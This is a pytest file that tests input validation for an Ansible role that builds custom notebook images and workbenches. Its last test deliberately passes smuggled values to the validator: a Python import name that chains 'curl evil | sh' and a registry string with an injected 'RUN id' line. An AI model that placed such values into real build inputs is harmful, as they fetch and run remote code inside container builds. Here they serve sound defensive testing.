"""custom_notebook input checks: quantities, names, sizes, images, locks, base tags."""

from decimal import Decimal

import pytest

from ansible_collections.rhods.gitops.plugins.module_utils import containerfile, notebooks
from ansible_collections.rhods.gitops.plugins.module_utils.errors import GitopsError

SIZES = {"Small": {"requests": {"cpu": "1", "memory": "8Gi"},
                   "limits": {"cpu": "2", "memory": "8Gi"}}}
LOCK = "lightgbm==3.3.5 \\\n    --hash=sha256:" + "044f" * 16 + "\n"


def image(**over):
    out = {"name": "lightgbm", "tag": "3.3.5", "requirements": LOCK,
           "source": {"type": "dockerfile"}}
    out.update(over)
    return out


def bench(**over):
    out = {"name": "demo-lightgbm-workbench", "namespace": "notebook-demo",
           "image": "lightgbm:3.3.5", "size": "Small", "shm_size": "2Gi",
           "storage_size": "20Gi", "data_connections": ["aws-connection-minio"]}
    out.update(over)
    return out


@pytest.mark.parametrize("text,value", [
    ("2Gi", Decimal(2 * 2 ** 30)), ("512Mi", Decimal(512 * 2 ** 20)), ("2G", Decimal(2 * 10 ** 9)),
    ("500m", Decimal("0.5")), ("1e3", Decimal(1000)), ("1.5Gi", Decimal(3 * 2 ** 29)),
    ("2", Decimal(2)), (".5", Decimal("0.5")), (3, Decimal(3)),
])
def test_valid_quantities(text, value):
    assert notebooks.parse_quantity(text) == value


@pytest.mark.parametrize("text", ["2GB", "2 Gi", "Gi", "", "2gi", "two", None, True, "2Gi ",
                                  "1.2.3Gi", "2KiB"])
def test_invalid_quantities(text):
    assert notebooks.parse_quantity(text) is None


def test_shm_size_2GB_is_refused_with_the_field_and_an_example():
    with pytest.raises(GitopsError) as caught:
        notebooks.validate_workbenches([bench(shm_size="2GB")], SIZES, [("lightgbm", "3.3.5")])
    msg = caught.value.msg
    assert "custom_notebook_workbenches[0] (demo-lightgbm-workbench)" in msg
    assert "shm_size '2GB' is not a Kubernetes quantity" in msg
    assert "shm_size: 2Gi" in msg and "'GB'" in msg


def test_every_error_is_reported_at_once():
    with pytest.raises(GitopsError) as caught:
        notebooks.validate_workbenches(
            [bench(name="Bad_Name", size="Huge", storage_size="lots", image="lightgbm"),
             bench(data_connections="aws-connection-minio")],
            SIZES, [("lightgbm", "3.3.5")])
    errors = caught.value.details["errors"]
    assert len(errors) == 5
    assert any("name 'Bad_Name' is not a valid name" in e for e in errors)
    assert any("size 'Huge' is not one of the sizes the dashboard offers (rhods_notebook_sizes: Small)" in e
               for e in errors)
    assert any("storage_size 'lots'" in e for e in errors)
    assert any("image 'lightgbm' must be <imagestream>:<tag>" in e for e in errors)
    assert any("data_connections must be a list" in e for e in errors)


def test_a_duplicate_workbench_is_refused():
    with pytest.raises(GitopsError, match="declared twice"):
        notebooks.validate_workbenches([bench(), bench()], SIZES, [("lightgbm", "3.3.5")])


def test_workbench_images_must_be_built_or_exist():
    declared = [("lightgbm", "3.3.5")]
    assert notebooks.validate_workbenches([bench()], SIZES, declared, {}) == []
    existing = {"s2i-generic-data-science-notebook": ["2025.2"]}
    assert notebooks.validate_workbenches(
        [bench(image="s2i-generic-data-science-notebook:2025.2")], SIZES, declared, existing) == []
    with pytest.raises(GitopsError, match="image pytorch:1 is neither built by this role"):
        notebooks.validate_workbenches([bench(image="pytorch:1")], SIZES, declared, existing)


def test_a_shm_larger_than_the_memory_limit_is_a_warning():
    warnings = notebooks.validate_workbenches([bench(shm_size="16Gi")], SIZES,
                                              [("lightgbm", "3.3.5")])
    assert len(warnings) == 1 and "counts against that limit" in warnings[0]


def test_valid_images_pass_and_return_what_they_declare():
    assert notebooks.validate_images([image()]) == [("lightgbm", "3.3.5")]
    assert notebooks.validate_images([image(source={"type": "git", "uri": "https://x/y.git"},
                                            requirements=None)]) == [("lightgbm", "3.3.5")]
    assert notebooks.validate_images([image(source={"type": "binary", "dir": "/tmp"},
                                            requirements=None)]) == [("lightgbm", "3.3.5")]


@pytest.mark.parametrize("over,expected", [
    ({"requirements": ""}, "requirements is empty"),
    ({"requirements": "lightgbm>=3\n"}, "requirements line 1 ('lightgbm>=3') is not pinned"),
    ({"tag": 3.3}, "tag 3.3 is not a valid image tag"),
    ({"name": "LightGBM"}, "name 'LightGBM' is not a valid name"),
    ({"source": {"type": "git"}}, "source.type git needs source.uri"),
    ({"source": {"type": "binary"}}, "source.type binary needs source.dir"),
    ({"source": {"type": "s2i"}}, "source.type 's2i' is not one of dockerfile, git, binary"),
])
def test_invalid_images(over, expected):
    with pytest.raises(GitopsError) as caught:
        notebooks.validate_images([image(**over)])
    assert expected in caught.value.msg


def test_a_missing_base_tag_names_the_stream_the_tag_and_the_tags_available():
    stream = {"status": {"tags": [{"tag": "2024.2", "items": [{}]},
                                  {"tag": "2025.1", "items": [{}]}]}}
    notebooks.check_base_tag(stream, "redhat-ods-applications", "s2i-generic-data-science-notebook",
                             "2025.1", ["lightgbm:3.3.5"])
    with pytest.raises(GitopsError) as caught:
        notebooks.check_base_tag(stream, "redhat-ods-applications",
                                 "s2i-generic-data-science-notebook", "2099.1", ["lightgbm:3.3.5"])
    msg = caught.value.msg
    assert "s2i-generic-data-science-notebook:2099.1 is not in ImageStream " \
           "redhat-ods-applications/s2i-generic-data-science-notebook" in msg
    assert "status.tags has: 2024.2, 2025.1" in msg
    assert "custom_notebook_base_tag" in msg
    assert caught.value.details["available_tags"] == ["2024.2", "2025.1"]


def _containerfile_input(**image):
    return {"custom_notebook_registry": "image-registry.openshift-image-registry.svc:5000",
            "custom_notebook_base_namespace": "redhat-ods-applications",
            "custom_notebook_images": [dict({"name": "lightgbm", "python_imports": ["lightgbm"],
                                             "requirements": "lightgbm==3.3.5\n"}, **image)]}


def test_what_enters_the_containerfile_as_text_fits_a_strict_grammar():
    assert containerfile.problems(_containerfile_input()) == []
    assert containerfile.problems(_containerfile_input(
        python_imports=["sklearn.ensemble", "_private"])) == []
    problems = containerfile.problems(_containerfile_input(
        python_imports=["lightgbm' && curl evil | sh && python3 -c 'import os", "1abc"],
        requirements="lightgbm==3.3.5\nnumpy==1.0\x00\n"))
    assert len(problems) == 3, problems
    assert problems[0].startswith("custom_notebook_images[0] (lightgbm): python_imports[0] ")
    assert "python_imports[1] '1abc'" in problems[1]
    assert "requirements line 2 holds a control character" in problems[2]
    bad = dict(_containerfile_input(), custom_notebook_registry="registry.example.com\nRUN id",
               custom_notebook_base_namespace="Bad Namespace")
    problems = containerfile.problems(bad)
    assert problems[0].startswith("custom_notebook_registry 'registry.example.com\\nRUN id' is "
                                  "not a registry")
    assert problems[1].startswith("custom_notebook_base_namespace 'Bad Namespace' is not a valid")
